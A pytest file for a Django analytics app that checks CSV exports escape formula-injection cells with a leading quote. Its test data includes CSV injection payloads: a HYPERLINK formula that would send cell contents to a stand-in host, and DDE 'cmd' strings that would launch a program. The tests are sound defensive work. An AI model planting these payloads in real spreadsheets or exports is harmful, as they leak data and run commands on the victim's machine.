"""CSV injection: client-controlled strings reach every CSV we write; a cell a spreadsheet would run
as a formula (=, +, -, @, tab, CR first) is written with a leading single quote. Numbers are not."""

import csv
import io
from datetime import timedelta
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import call_command
from django.utils import timezone

from apps.analytics.csv_safe import SafeCsvWriter, csv_text
from apps.analytics.services import usage_rollup_recompute
from tests import factories as f

pytestmark = pytest.mark.django_db

EVIL = {
    "batch_id": "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")",
    "budget_id": "+1+cmd|' /C calc'!A0",
    "source_ref": "@SUM(1+1)*cmd|' /C calc'!A0",
    "model": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture
def evil_usage(world):
    world.acme_key.name = "\tkey"
    world.acme_key.save()
    now = timezone.now()
    f.UsageEventFactory(tenant=world.acme, api_key=world.acme_key, cost=Decimal("0.25"), timestamp=now,
                        request_id="\rreq", prompt_tokens=7, completion_tokens=3, latency_ms=12, **EVIL)
    usage_rollup_recompute(since=now - timedelta(days=1), until=now + timedelta(minutes=1))
    return world


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_inert(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)


def _by_name(rows) -> dict:
    return dict(zip(rows[0], rows[1], strict=True))


def test_usage_csv_neutralises_formulas(client, evil_usage):
    client.force_login(evil_usage.acme_manager)
    rows = _cells(b"".join(client.get("/dashboard/usage.csv").streaming_content).decode())
    _assert_inert(rows)
    row = _by_name(rows)
    assert row["batch_id"] == "'" + EVIL["batch_id"]
    assert row["budget_id"] == "'" + EVIL["budget_id"]
    assert row["source_id"] == "'" + EVIL["source_ref"]
    assert row["model"] == "'" + EVIL["model"]
    assert row["key"] == "'\tkey"
    assert row["request_id"] == "'\rreq"
    assert (row["prompt_tokens"], row["completion_tokens"], row["latency_ms"]) == ("7", "3", "12")
    assert Decimal(row["cost"]) == Decimal("0.25")


@pytest.mark.parametrize("group", ["day_model", "source"])
def test_usage_summary_csv_neutralises_formulas(client, evil_usage, group):
    client.force_login(evil_usage.acme_manager)
    rows = _cells(b"".join(client.get("/dashboard/usage-summary.csv", {"group": group}).streaming_content).decode())
    _assert_inert(rows)
    row = _by_name(rows)
    if group == "day_model":
        assert row["model"] == "'" + EVIL["model"]
    else:
        assert row["source_id"] == "'" + EVIL["source_ref"]
    assert Decimal(row["cost"]) == Decimal("0.25")


def test_usage_export_command_csv_neutralises_formulas(evil_usage):
    out = StringIO()
    call_command("usage_export", "--tenant", "acme", "--format", "csv", stdout=out)
    rows = _cells(out.getvalue())
    _assert_inert(rows)
    row = _by_name(rows)
    assert row["batch_id"] == "'" + EVIL["batch_id"]
    assert row["request_id"] == "'\rreq"


def test_only_text_columns_are_neutralised_numbers_stay_numbers():
    out = StringIO()
    w = SafeCsvWriter(out, columns=["name", "delta", "cost"], numeric_columns=["delta", "cost"], lineterminator="\n")
    w.writerow(["name", "delta", "cost"])
    w.writerow(["-3", "-3", Decimal("-0.5")])
    w.writerow(["plain", 4, "1.25"])
    assert out.getvalue().splitlines()[1:] == ["'-3,-3,-0.5", "plain,4,1.25"]
    assert csv_text(-3) == -3
    assert csv_text("a=b") == "a=b"
